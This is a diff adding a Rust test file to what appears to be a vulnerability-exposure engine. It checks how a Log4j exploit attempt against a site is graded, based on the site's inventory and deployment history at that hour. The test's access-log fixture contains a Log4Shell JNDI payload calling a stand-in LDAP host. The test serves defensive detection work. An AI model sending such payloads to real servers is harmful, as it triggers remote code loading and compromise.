@@ -1,0 +1,107 @@
+//! Attempts joined with what the register knew about the site at that hour.
+
+use relight_engine::campaigns_of;
+use relight_engine::store::{DeploymentDraft, SnapshotDraft};
+use relight_engine::watch::Feed;
+use relight_model::{
+    AssetId, Campaign, Digest, Exposure, Flaw, FlawCode, Sbom, Severity, Timestamp,
+};
+
+use crate::engine::{Town, log4j, name};
+
+/// 2021-12-10T12:00:00Z.
+const NOON: Timestamp = 1_639_137_600;
+const HOUR: Timestamp = 3_600;
+
+/// What the register learns about the one asset of the one site.
+enum Known {
+    Inventory(Sbom, Timestamp),
+    Deployment(Option<Digest>, Timestamp),
+}
+
+use Known::{Deployment, Inventory};
+
+/// One payload at noon; what is known about the site is told by the steps.
+fn campaign(steps: Vec<Known>) -> Campaign {
+    let town = Town::new(1);
+    let store = town.engine.store();
+    let asset: AssetId = store.placements().unwrap()[0].1;
+    for step in steps {
+        match step {
+            Inventory(sbom, observed_at) => {
+                let recorded_at = observed_at;
+                let (sbom, profiles) = (&sbom, None);
+                let draft = SnapshotDraft { asset, sbom, observed_at, recorded_at, profiles };
+                store.put_snapshots(&[draft]).unwrap();
+            }
+            Deployment(digest, at) => {
+                let draft = DeploymentDraft { asset, digest, at, recorded_at: at };
+                store.report_deployed(&[draft]).unwrap();
+            }
+        }
+    }
+    let site = store.sites().unwrap().remove(0);
+    let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
+    let line = "192.0.2.7 - - [10/Dec/2021:12:00:00 +0000] \"GET /?q=${jndi:ldap://x.test/a} \
+                HTTP/1.1\" 200 12 \"-\" \"curl/7.74.0\"\n";
+    town.engine.ingest_log(&feed, line.as_bytes()).unwrap();
+    let mut found = campaigns_of(store).unwrap();
+    assert_eq!((found.len(), name(0).as_str()), (1, site.slug.as_str()));
+    found.remove(0)
+}
+
+#[test]
+fn an_attempt_on_a_site_that_was_vulnerable_that_hour_is_s4() {
+    let vulnerable = || log4j("2.14.1");
+    let patched = || log4j("2.17.1");
+    let unread = || Sbom {
+        flaws: vec![Flaw { code: FlawCode::Encrypted, evidence: "x.zip".into(), bytes: 9 }],
+        ..log4j("2.17.1")
+    };
+    let other = Some(Digest([9; 32]));
+    for (what, steps, exposure) in [
+        ("seen that morning", vec![Inventory(vulnerable(), NOON - HOUR)], Exposure::Affected),
+        ("nobody looked", vec![], Exposure::Unknown),
+        ("looked afterwards only", vec![Inventory(patched(), NOON + HOUR)], Exposure::Unknown),
+        (
+            "vulnerable, seen afterwards only",
+            vec![Inventory(vulnerable(), NOON + 1)],
+            Exposure::Unknown,
+        ),
+        ("patched that morning", vec![Inventory(patched(), NOON - HOUR)], Exposure::Clear),
+        (
+            "patched an hour later",
+            vec![Inventory(vulnerable(), NOON - 24 * HOUR), Inventory(patched(), NOON + HOUR)],
+            Exposure::Affected,
+        ),
+        (
+            "patched an hour before",
+            vec![Inventory(vulnerable(), NOON - 24 * HOUR), Inventory(patched(), NOON - HOUR)],
+            Exposure::Clear,
+        ),
+        (
+            "inventory corrected later",
+            vec![Inventory(patched(), NOON + HOUR), Inventory(vulnerable(), NOON - HOUR)],
+            Exposure::Affected,
+        ),
+        ("inventory too old", vec![Inventory(patched(), NOON - 8 * 24 * HOUR)], Exposure::Unknown),
+        ("with a part unread", vec![Inventory(unread(), NOON - HOUR)], Exposure::Unknown),
+        (
+            "something else deployed since",
+            vec![Inventory(patched(), NOON - HOUR), Deployment(other, NOON - 60)],
+            Exposure::Unknown,
+        ),
+        (
+            "something else deployed later",
+            vec![Inventory(patched(), NOON - HOUR), Deployment(other, NOON + 60)],
+            Exposure::Clear,
+        ),
+    ] {
+        let found = campaign(steps);
+        assert_eq!(found.attempts[0].exposure, exposure, "{what}");
+        let vulnerable = exposure == Exposure::Affected;
+        let step =
+            if vulnerable { Severity::AttemptOnVulnerable } else { Severity::ExploitAttempt };
+        assert_eq!(found.severity, step, "{what}");
+    }
+}
